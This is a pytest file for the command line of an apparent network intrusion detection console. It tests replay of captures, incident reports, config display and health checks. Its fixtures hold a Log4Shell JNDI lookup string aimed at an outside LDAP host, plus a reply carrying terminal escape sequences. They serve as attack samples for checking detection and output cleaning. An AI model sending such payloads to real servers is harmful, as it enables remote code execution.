"""The command line: what is typed, what is printed, and how it exits."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from aegis_tui.cli import main
from aegis_tui.commands.doctor import examine
from engine.config import Settings
from engine.sources.pcapfile import PcapFile
from tests.aegis_tui.launching import launch
from tests.factories import conversation, pcap_file

JNDI = b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"
REPLY = b"HTTP/1.1 200 \x1b[2J\r\n\r\n\x1b]0;pwned\x07"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a state folder in which one attack was replayed."""
    folder = tmp_path_factory.mktemp("home")
    capture = pcap_file(folder / "attack.pcap", conversation(JNDI, REPLY))
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("XDG_STATE_HOME", str(folder))
        assert main(["replay", str(capture), "--headless", "--json"]) == 0
    return folder


@pytest.fixture(autouse=True)
def _at_home(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in [name for name in os.environ if name.startswith(("AEGIS_", "OPENAI_"))]:
        monkeypatch.delenv(name)
    for name in ("XDG_STATE_HOME", "XDG_CONFIG_HOME"):
        monkeypatch.setenv(name, str(home))


def _only_incident(capsys: pytest.CaptureFixture[str], home: Path) -> str:
    assert main(["incidents", "--json", "--database", str(home / "aegis" / "aegis.db")]) == 0
    (line,) = capsys.readouterr().out.splitlines()
    return str(json.loads(line)["id"])


@pytest.mark.parametrize("words", [["--help"], ["replay", "--help"], ["proposals", "approve", "--help"], ["--version"]])
def test_help_and_version_exit_well(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as stopped:
        main(words)
    assert stopped.value.code == 0
    assert "aegis-tui" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("words", "status", "said"),
    [
        ([], 2, "name an interface with --iface"),
        (["--iface", "no-such-iface"], 2, "there is no interface 'no-such-iface'"),
        (["replay", "no/such/file.pcap"], 2, "there is no file no/such/file.pcap"),
        (["replay", "INC-ffffffff"], 2, "INC-ffffffff"),
        (["show", "INC-ffffffff"], 2, "INC-ffffffff"),
        (["incidents", "--database", "/no/such.db"], 2, "there is no database"),
        (["--iface", "lo", "--threshold", "7"], 2, "threshold must be from 0 to 1"),
    ],
)
def test_bad_input_is_said_in_one_line(
    words: list[str], status: int, said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(words) == status
    error = capsys.readouterr().err
    assert said in error
    assert "Traceback" not in error
    assert "Errno" not in error


def test_what_the_system_refuses_is_told_without_its_number(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    wanted = home / "nowhere" / "case.zip"
    assert main(["export", _only_incident(capsys, home), "-o", str(wanted)]) == 2
    assert capsys.readouterr().err == f"aegis-tui: {wanted}: No such file or directory\n"


def test_a_file_that_is_no_capture_exits_2_and_names_it(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    foreign = tmp_path / "foreign.pcap"
    foreign.write_bytes(b"#!/bin/sh\necho this is no capture\n" * 10)
    assert main(["replay", str(foreign), "--headless", "--json"]) == 2
    printed = capsys.readouterr()
    assert "foreign.pcap" in printed.err
    assert [json.loads(line)["type"] for line in printed.out.splitlines()] == ["fault", "summary"]


def test_a_fault_before_the_first_packet_is_dated_by_no_clock(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    foreign = tmp_path / "foreign.pcap"
    foreign.write_bytes(b"this is no capture")
    assert main(["replay", str(foreign), "--headless"]) == 2
    text = capsys.readouterr().out
    assert text.startswith("before the first packet   FAULT    capture: ")
    assert "1970" not in text


def test_headless_json_prints_objects_of_the_documented_types(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(home / "attack.pcap"), "--headless", "--json", "--with", "flow,detection,step"]) == 0
    kinds = {json.loads(line)["type"] for line in capsys.readouterr().out.splitlines()}
    assert kinds == {"alert", "incident", "verdict", "proposal", "summary", "flow", "detection", "step"}


def test_headless_lines_for_people_hold_no_control_character(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(home / "attack.pcap"), "--headless", "--with", "flow,detection,step"]) == 0
    text = capsys.readouterr().out
    assert "ALERT" in text
    assert all(character.isprintable() or character == "\n" for character in text)


def test_a_stored_incident_replays_to_the_lines_of_its_capture(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["replay", str(home / "attack.pcap"), "--headless", "--json"]) == 0
    first = [line for line in capsys.readouterr().out.splitlines() if '"summary"' not in line]
    assert main(["replay", _only_incident(capsys, home), "--headless", "--json"]) == 0
    assert [line for line in capsys.readouterr().out.splitlines() if '"summary"' not in line] == first


def test_show_tells_alerts_evidence_steps_and_verdict(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["show", _only_incident(capsys, home), "--database", str(home / "aegis" / "aegis.db")]) == 0
    text = capsys.readouterr().out
    assert all(
        word in text for word in ("log4shell.jndi", "evidence  E-", "step   1", "verdict   malicious", "proposal")
    )
    assert all(character.isprintable() or character == "\n" for character in text)


@pytest.mark.parametrize(("form", "mark"), [("md", "# Incident"), ("html", "<!DOCTYPE html>"), ("json", "{")])
def test_a_report_comes_in_three_forms(form: str, mark: str, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    incident_id = _only_incident(capsys, home)
    assert main(["report", incident_id, "--format", form, "--database", str(home / "aegis" / "aegis.db")]) == 0
    text = capsys.readouterr().out
    assert text.lower().startswith(mark.lower())
    assert "\x1b" not in text


def test_the_packets_of_an_incident_are_a_capture(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    words = ["packets", _only_incident(capsys, home), str(tmp_path / "slice.pcap")]
    assert main([*words, "--database", str(home / "aegis" / "aegis.db")]) == 0
    frames = [frame for batch in PcapFile(tmp_path / "slice.pcap").batches() for frame in batch]
    assert len(frames) == len(conversation(JNDI))
    assert main([*words, "--database", str(home / "aegis" / "aegis.db")]) == 2
    flagged = [*words[:2], "-o", str(tmp_path / "again.pcap"), "--database", str(home / "aegis" / "aegis.db")]
    assert main(flagged) == 0
    assert (tmp_path / "again.pcap").read_bytes() == (tmp_path / "slice.pcap").read_bytes()
    assert main([*words, "-o", str(tmp_path / "third.pcap")]) == 2


def test_config_show_names_the_origin_of_each_value(
    home: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("AEGIS_THRESHOLD", "0.9")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-secret")
    assert main(["config", "show"]) == 0
    text = capsys.readouterr().out
    assert "environment AEGIS_THRESHOLD" in text
    assert "sk-secret" not in text
    assert " 3600 seconds " in text
    assert "Score from which" not in text


def test_config_show_explains_each_setting_where_that_is_asked(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["config", "show", "--explain"]) == 0
    text = capsys.readouterr().out
    assert "\n    Score from which the model raises a detection; 0 means the model card's. (0 to 1)\n" in text


def test_doctor_tells_a_state_for_each_ability(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["doctor", "--json"]) == 0
    checks = {json.loads(line)["ability"]: json.loads(line) for line in capsys.readouterr().out.splitlines()}
    assert {"kernel", "bpf", "libbpf", "sqlite", "model", "rules", "knowledge", "llm", "environment"} <= set(checks)
    assert all(check["health"] in ("ok", "degraded") for check in checks.values())


@pytest.mark.parametrize(
    "words", [["incidents", "--json"], ["report", "INC"], ["config", "show"], ["--help"]], ids=" ".join
)
def test_a_reader_that_is_gone_ends_a_command_quietly(words: list[str], home: Path, tmp_path: Path) -> None:
    reading, writing = os.pipe()
    os.close(reading)
    buffered = {name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"}
    done = launch(tmp_path / "live", *words, stdout=writing, timeout=30, env=buffered)
    os.close(writing)
    assert (done.returncode, done.stderr) == (141, "")


@pytest.mark.parametrize("moment", ["arguments.parser.build_parser", "commands.settings.choose_zone"])
def test_ctrl_c_ends_a_command_that_has_hardly_begun_without_a_word(
    moment: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    def interrupt(_: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(f"aegis_tui.{moment}", interrupt)
    assert main(["config", "show"]) == 130
    assert "".join(capsys.readouterr()) == ""


def test_a_pack_that_is_a_folder_is_named(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["verify", str(tmp_path)]) == 2
    assert capsys.readouterr().err == f"aegis-tui: {tmp_path} is not a regular file\n"


@pytest.mark.parametrize(("words", "status"), [(["config", "show"], 2), (["doctor"], 0)], ids=["config", "doctor"])
def test_keys_that_do_not_fit_are_told_before_the_console_would_tell(
    words: list[str], status: int, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "config.toml"
    file.write_text('[keys]\nblock = "enter"\n', encoding="utf-8")
    assert main([*words, "--config", str(file)]) == status
    told = capsys.readouterr()
    assert "[keys] block" in told.out + told.err


def test_doctor_and_readme_name_one_oldest_kernel(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("platform.release", lambda: "5.10.0-28-amd64")
    check = next(examine(Settings()))
    assert (check.health, check.remedy) == ("degraded", "blocking needs Linux 5.11 or later")
    readme = Path(__file__).parents[2] / "README.md"
    assert "Linux 5.11 or later" in readme.read_text(encoding="utf-8")
    monkeypatch.setattr("platform.release", lambda: "5.11.0")
    assert next(examine(Settings())).health == "ok"


def test_a_console_without_a_terminal_is_refused_and_not_opened(home: Path) -> None:
    words = [sys.executable, "-m", "aegis_tui", "demo"]
    done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False, timeout=30)
    assert (done.returncode, done.stdout) == (2, "")
    assert "use --headless" in done.stderr


@pytest.mark.parametrize(
    "words", [["--config", "FILE", "config", "show"], ["config", "show", "--config", "FILE"]], ids=["before", "after"]
)
def test_a_configuration_named_before_the_command_counts_as_one_after_it(
    words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "bad.toml"
    file.write_text('keep_days = "x"\n', encoding="utf-8")
    assert main([str(file) if word == "FILE" else word for word in words]) == 2
    assert capsys.readouterr().err.endswith("bad.toml: keep_days does not fit: 'x' (a number expected)\n")


@pytest.mark.parametrize("broken", [RuntimeError("no such table"), MemoryError(), KeyError("techniques")], ids=repr)
def test_doctor_tells_what_breaks_and_goes_on(broken: Exception, monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object) -> None:
        raise broken

    monkeypatch.setattr("engine.attack.index.Shipped", refuse)
    monkeypatch.setattr("aegis_tui.commands.doctor._sqlite", refuse)
    checks = {check.ability: check for check in examine(Settings())}
    assert {type(broken).__name__} == {checks[name].detail.split(":")[0] for name in ("knowledge", "sqlite")}
    assert checks["environment"].health == "ok"
